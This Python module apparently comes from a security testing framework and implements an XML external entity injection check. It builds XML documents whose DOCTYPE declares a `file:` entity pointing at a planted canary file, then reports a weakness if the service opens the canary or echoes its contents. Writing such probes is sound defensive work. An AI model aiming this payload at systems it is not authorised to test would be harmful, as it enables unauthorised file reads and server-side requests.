"""External entities: an XML document of the request that names a file of the server."""

from __future__ import annotations

import base64
import re
from collections.abc import Iterator, Mapping
from pathlib import Path

from crashworthy.core.history import SensorEvent
from crashworthy.core.value import Json
from crashworthy.lab.experiments.injection.attack import Attack, Evidence, Payload, Sighting
from crashworthy.lab.experiments.injection.inputs import Input, Kind
from crashworthy.lab.experiments.injection.positions import MARKER, path
from crashworthy.weaknesses.injection_formats import EXTERNAL_ENTITY

_NAMED = re.compile(r"xml|svg|soap|rss|feed|opml|document|import", re.IGNORECASE)
_DECLARATION = re.compile(r"^\s*<\?xml[^>]*\?>|<!DOCTYPE[^>\[]*(?:\[[^\]]*\])?\s*>")
_ROOT = re.compile(r"<([A-Za-z_][\w.:-]*)")
_TEXT = re.compile(r">[^<>]+<")
_SMALLEST = "<r>x</r>"


class Entity(Attack):
    """A document whose text is an entity that a canary's `file:` URL declares.

    Proven by the canary being opened by that very name while the document is read, or, where a parser in C opens it
    unseen, by the canary's content in the answer. Parsers that leave such entities out, or refuse any DTD, hold.
    """

    id = "entity"
    weakness = EXTERNAL_ENTITY
    expected = "the parser resolves no entity that leads out of the document"

    def payloads(self, place: Input, marker: str) -> Iterator[Payload]:
        """The good document with its texts replaced where there is one, and the smallest one."""
        good = document_of(place.good)
        if place.kind not in {Kind.BODY, Kind.FILE, Kind.FIELD} or not (good or _may_be_xml(place)):
            return
        for text in dict.fromkeys((good or _SMALLEST, _SMALLEST)):
            document = with_entities(text, f'<!ENTITY x SYSTEM "file://${{outside}}/{marker}">', "&x;")
            if place.kind is Kind.BODY:
                kind = place.step.content_type or ""
                yield Payload({"body": document, "content_type": kind if "xml" in kind else "application/xml"})
            elif place.kind is Kind.FILE:
                yield Payload({"content": document})
            else:
                yield Payload(document)

    def prepare(self, settings: Mapping[str, Json], outside: Path) -> None:
        """The canary."""
        marker = str(settings[MARKER])
        (outside / marker).write_text(_canary(marker), encoding="utf-8")

    def evidence(self, sighting: Sighting) -> Evidence | None:
        """The canary was opened, or is in the answer."""
        for event in sighting.sinks("path"):
            if event.data.get("use") == "read" and path(event.data, sighting.settings):
                return self._found(f"the service opened {event.data.get('resolved')}, which an entity named", event)
        for exchange in sighting.exchanges:
            if exchange.response is not None and _canary(sighting.marker).strip() in exchange.response.body:
                return self._found("the answer holds the content of a file that an entity named", None)
        return None

    def touched(self, sighting: Sighting) -> bool:
        """Whether the canary was opened."""
        return any(True for _ in sighting.sinks("path"))

    def _found(self, seen: str, event: SensorEvent | None) -> Evidence:
        return Evidence(
            becomes="a document whose entities are fetched",
            seen=seen,
            gets="can read any file that the service may, and make requests from its machine",
            location=event.location if event else None,
            impact={"read": "H"},
        )


def with_entities(document: str, declarations: str, text: str) -> str:
    """The document with a DTD of these declarations, and `text` in place of each text between its tags."""
    bare = _DECLARATION.sub("", document).strip()
    root = _ROOT.search(bare)
    filled = _TEXT.sub(f">{text}<", bare)
    return f'<?xml version="1.0"?><!DOCTYPE {root[1] if root else "r"} [{declarations}]>{filled}'


def document_of(good: Json) -> str:
    """The XML that the good request has there, as a text or as a file; "" where it has none."""
    if isinstance(good, dict):
        content = good.get("content")
        encoded = good.get("base64")
        if isinstance(encoded, str) and "${" not in encoded:
            good = base64.b64decode(encoded).decode("utf-8", "replace")
        else:
            good = content
    return good if isinstance(good, str) and good.lstrip().startswith("<") and _ROOT.search(good) else ""


def _may_be_xml(place: Input) -> bool:
    if place.kind is Kind.BODY:
        kind = place.step.content_type or ""
        return "xml" in kind or not re.search("json|form", kind)
    return bool(_NAMED.search(place.name)) or place.kind is Kind.FILE


def _canary(marker: str) -> str:
    return f"canary {marker[::-1]}\n"
